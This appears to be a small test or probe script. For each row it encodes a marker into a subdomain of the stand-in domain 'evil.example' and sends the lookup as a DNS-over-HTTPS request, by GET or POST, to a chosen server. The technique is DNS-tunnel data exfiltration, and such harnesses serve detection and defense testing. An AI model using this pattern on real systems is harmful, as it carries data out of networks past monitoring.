import base64

from rows import connect, each, mark, question, secure, talk


def ask(row, host, port, method):
    query = question([mark(row) + "x", "evil", "example"])
    connection = connect(host, int(port))
    if port != "80":
        connection = secure(connection, host)
    if method == "GET":
        target, body = f"/dns-query?dns={base64.b64encode(query).decode()}&name={mark(row)}", b""
    else:
        target, body = "/dns-query", query
    head = f"{method} {target} HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/dns-message\r\nContent-Length: {len(body)}\r\n\r\n"
    talk(connection, head.encode() + body)


each(ask)
